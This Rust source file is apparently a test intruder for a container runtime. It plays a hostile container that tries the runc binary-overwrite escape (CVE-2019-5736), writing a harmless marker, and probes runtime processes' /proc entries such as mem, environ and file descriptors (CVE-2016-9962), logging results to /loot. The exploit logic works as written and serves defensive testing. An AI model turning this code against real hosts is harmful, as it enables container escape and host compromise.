//! What a hostile container does to the runtime's processes that it sees in its /proc. Only the standard library, so
//! that rustc alone can link it statically. The caller ends it by a file `/loot/stop`.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

fn main() {
    let mode = std::env::args().nth(1).unwrap_or_default();
    note("ready", "");
    match mode.as_str() {
        "overwrite" => overwrite(),
        _ => rob(),
    }
}

fn note(name: &str, text: &str) {
    fs::write(Path::new("/loot").join(name), text).expect("write to /loot");
}

fn stopped() -> bool {
    Path::new("/loot/stop").exists()
}

/// Processes but this one.
fn others() -> Vec<PathBuf> {
    let entries = fs::read_dir("/proc").expect("read /proc").flatten();
    let own = std::process::id().to_string();
    let number = |name: &str| name.bytes().all(|b| b.is_ascii_digit()) && name != own;
    entries.filter(|e| e.file_name().to_str().is_some_and(number)).map(|e| e.path()).collect()
}

/// Holds on to the program file of each process that is not the image's, and writes to it as soon as nobody runs it
/// (CVE-2019-5736).
fn overwrite() {
    const O_PATH: i32 = 0o10000000;
    let mut caught = Vec::new();
    while !stopped() {
        for process in others() {
            let exe = process.join("exe");
            let Ok(handle) = File::options().read(true).custom_flags(O_PATH).open(&exe) else { continue };
            // The image's programs lie in /bin; the runtime's file has no path in here.
            let of_image = fs::read_link(&exe).is_ok_and(|path| path.starts_with("/bin"));
            if !of_image && caught.len() < 64 {
                caught.push(handle);
                note("caught", &caught.len().to_string());
            }
        }
    }
    let until = Instant::now() + Duration::from_secs(3);
    while Instant::now() < until {
        for handle in &caught {
            let path = format!("/proc/self/fd/{}", handle.as_raw_fd());
            if let Ok(mut file) = File::options().write(true).open(path) {
                if file.write_all(b"#!/owned\n").is_ok() {
                    note("overwritten", "");
                    return;
                }
            }
        }
    }
}

/// Tries to get at each process of the runtime by what only a tracer may open (CVE-2016-9962).
fn rob() {
    let (mut seen, mut taken) = (0u32, String::new());
    while !stopped() {
        for process in others() {
            let name = || fs::read_to_string(process.join("comm")).unwrap_or_default();
            let before = name();
            let of_image = ["intruder\n", "true\n", "busybox\n", "sh\n", ""].contains(&before.as_str());
            if of_image {
                continue;
            }
            let mut got = Vec::new();
            for part in ["exe", "root", "cwd", "mem", "environ", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"] {
                let path = process.join(part);
                let opened = File::options().read(true).custom_flags(0o4000).open(&path);
                if opened.is_ok() && (part != "environ" || !fs::read(&path).unwrap_or_default().is_empty()) {
                    got.push(part);
                }
            }
            // The name changes with execve: what was opened before is the runtime's, all else the image's own.
            if name() == before {
                seen += 1;
                note("seen", &seen.to_string());
                if !got.is_empty() {
                    taken.push_str(&format!("{}: {got:?}\n", before.trim_end()));
                    note("taken", &taken);
                }
            }
        }
    }
}
